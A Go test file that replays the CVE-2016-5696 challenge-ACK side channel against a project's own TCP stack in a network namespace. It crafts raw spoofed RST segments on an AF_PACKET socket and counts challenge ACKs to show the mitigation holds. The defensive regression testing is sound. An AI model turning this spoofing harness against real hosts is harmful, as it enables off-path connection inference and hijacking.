//go:build linux

package main

import (
	"bufio"
	"fmt"
	"net"
	"os"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/gopacket/gopacket"
	"github.com/gopacket/gopacket/layers"
	"golang.org/x/sys/unix"
)

// TestLiveChallengeACKSideChannel plays the off-path attack of CVE-2016-5696 against microhttp
// in a namespace: an attacker with 300 connections of its own sends one in-window RST on each,
// in rounds a second apart, and counts the challenge ACKs that come back; in every other round
// it also sends 100 in-window RSTs spoofed onto a victim's connection, as a right guess of the
// victim's sequence numbers would. With one global counter of 100 a second, the rounds with a
// right guess came back short by the victim's challenge ACKs. Here the victim sends at most one
// (its own limit, one per 500 ms), while the attacker's count moves by tens from one second to
// the next (the budget is drawn anew each second), so the count does not tell the two kinds of
// rounds apart. The positive controls: the attacker's RSTs do draw challenge ACKs, and the
// victim did answer the spoofed RSTs once.
func TestLiveChallengeACKSideChannel(t *testing.T) {
	exclusive(t)
	ns, srv := startServer(t, smallSite(t))
	attack := ns.Exec(t.Context(), os.Args[0])
	attack.Env = append(os.Environ(), "MTCP_CHALLENGE_NETNS="+ns.Name())
	out, err := attack.CombinedOutput()
	t.Logf("%s", srv.Stop())
	if err != nil {
		t.Fatalf("attacker: %v\n%s", err, out)
	}
	var plain, guessed, victim []int
	sc := bufio.NewScanner(strings.NewReader(string(out)))
	for sc.Scan() {
		var round, n, v int
		var kind string
		if _, err := fmt.Sscanf(sc.Text(), "round %d %s attacker %d victim %d", &round, &kind, &n, &v); err != nil {
			continue
		}
		if kind == "guessed" {
			guessed, victim = append(guessed, n), append(victim, v)
		} else {
			plain = append(plain, n)
		}
	}
	t.Logf("challenge ACKs the attacker saw: without a right guess %v, with %v; the victim's per round %v", plain, guessed, victim)
	if len(plain) < 3 || len(guessed) < 3 {
		t.Fatalf("too few rounds: %s", out)
	}
	for _, n := range append(slices.Clone(plain), guessed...) {
		if n < 50 || n >= 150 {
			t.Errorf("%d challenge ACKs in a second: outside the budget's 50..149 (tcp.DefaultChallengeACKs ± half)", n)
		}
	}
	if slices.Max(victim) > 1 || slices.Max(victim) == 0 {
		t.Errorf("the victim sent %v challenge ACKs per round for 100 spoofed RSTs: want at most one, and one at least once", victim)
	}
	// The attacker's own noise dwarfs what a right guess takes away: the counts of the two
	// kinds of rounds overlap.
	if slices.Min(guessed) > slices.Max(plain) || slices.Max(guessed) < slices.Min(plain) {
		t.Errorf("rounds with a right guess (%v) stand apart from the others (%v)", guessed, plain)
	}
	if slices.Min(plain) == slices.Max(plain) {
		t.Errorf("the same count every second without a guess, %v: the budget is not drawn anew", plain)
	}
}

// challengeAttack is the attacker, run inside namespace ns: it opens a victim connection and
// 300 of its own to 198.18.0.2:80 from the kernel, learns their sequence numbers from the
// handshakes on an AF_PACKET socket, and plays 16 rounds, printing one line each.
func challengeAttack(ns string) error {
	fd, ll, err := rawLink(ns, unix.Timeval{Usec: 20000})
	if err != nil {
		return err
	}
	defer unix.Close(fd)

	// The reader: the kernel's initial sequence number per port, the MACs, and the challenge
	// ACKs (bare ACKs from the stack at RCV.NXT = ISN+1) counted per port.
	var mu sync.Mutex
	isn := map[uint16]uint32{}
	acks := map[uint16]int{}
	var hostMAC, stackMAC net.HardwareAddr
	stop := make(chan struct{})
	defer close(stop)
	go func() {
		buf := make([]byte, 2048)
		for {
			select {
			case <-stop:
				return
			default:
			}
			k, _, err := unix.Recvfrom(fd, buf, 0)
			if err != nil {
				continue
			}
			p := gopacket.NewPacket(buf[:k], layers.LayerTypeEthernet, gopacket.Default)
			eth, _ := p.Layer(layers.LayerTypeEthernet).(*layers.Ethernet)
			tcp, _ := p.Layer(layers.LayerTypeTCP).(*layers.TCP)
			if eth == nil || tcp == nil {
				continue
			}
			mu.Lock()
			switch {
			case tcp.SYN && !tcp.ACK && tcp.DstPort == 80:
				isn[uint16(tcp.SrcPort)], hostMAC = tcp.Seq, eth.SrcMAC
			case tcp.SYN && tcp.ACK && tcp.SrcPort == 80:
				stackMAC = eth.SrcMAC
			case tcp.SrcPort == 80 && tcp.ACK && !tcp.SYN && !tcp.RST && !tcp.FIN && len(tcp.Payload) == 0:
				if s, ok := isn[uint16(tcp.DstPort)]; ok && tcp.Ack == s+1 {
					acks[uint16(tcp.DstPort)]++
				}
			}
			mu.Unlock()
		}
	}()
	var ports []uint16
	for i := range 301 {
		c, err := net.Dial("tcp", "198.18.0.2:80")
		if err != nil {
			return fmt.Errorf("connection %d: %w", i, err)
		}
		defer c.Close()
		ports = append(ports, uint16(c.LocalAddr().(*net.TCPAddr).Port))
	}
	victim, own := ports[0], ports[1:]
	time.Sleep(300 * time.Millisecond)
	mu.Lock()
	if len(isn) < len(ports) || stackMAC == nil {
		mu.Unlock()
		return fmt.Errorf("saw %d of %d handshakes", len(isn), len(ports))
	}
	mu.Unlock()

	eth := &layers.Ethernet{SrcMAC: hostMAC, DstMAC: stackMAC, EthernetType: layers.EthernetTypeIPv4}
	ip := &layers.IPv4{Version: 4, TTL: 64, Protocol: layers.IPProtocolTCP, Flags: layers.IPv4DontFragment,
		SrcIP: net.IPv4(198, 18, 0, 1), DstIP: net.IPv4(198, 18, 0, 2)}
	frame := gopacket.NewSerializeBuffer()
	rst := func(port uint16, seq uint32) error {
		seg := &layers.TCP{SrcPort: layers.TCPPort(port), DstPort: 80, Seq: seq, RST: true}
		if err := seg.SetNetworkLayerForChecksum(ip); err != nil {
			return err
		}
		if err := gopacket.SerializeLayers(frame, gopacket.SerializeOptions{FixLengths: true, ComputeChecksums: true}, eth, ip, seg); err != nil {
			return err
		}
		return unix.Sendto(fd, frame.Bytes(), 0, ll)
	}
	// 16 rounds, 8 of each kind: the two kinds' counts come from the same draws, one apart,
	// and with 4 of each they stood apart by chance in 1 run of 35 (all 4 of one kind above all
	// 4 of the other); with 8 of each, in 1 of 6,435.
	for round := range 16 {
		mu.Lock()
		clear(acks)
		mu.Unlock()
		guessed := round%2 == 1
		if guessed { // in the victim's window, not at RCV.NXT: what a right guess sends
			for k := range uint32(100) {
				if err := rst(victim, isn[victim]+11+k); err != nil {
					return err
				}
			}
		}
		for _, p := range own {
			if err := rst(p, isn[p]+6); err != nil {
				return err
			}
		}
		time.Sleep(600 * time.Millisecond) // every challenge ACK back, also on a loaded machine
		mu.Lock()
		n := 0
		for _, p := range own {
			n += acks[p]
		}
		kind := "plain"
		if guessed {
			kind = "guessed"
		}
		fmt.Printf("round %d %s attacker %d victim %d\n", round, kind, n, acks[victim])
		mu.Unlock()
		time.Sleep(500 * time.Millisecond) // past the second: a new budget
	}
	return nil
}
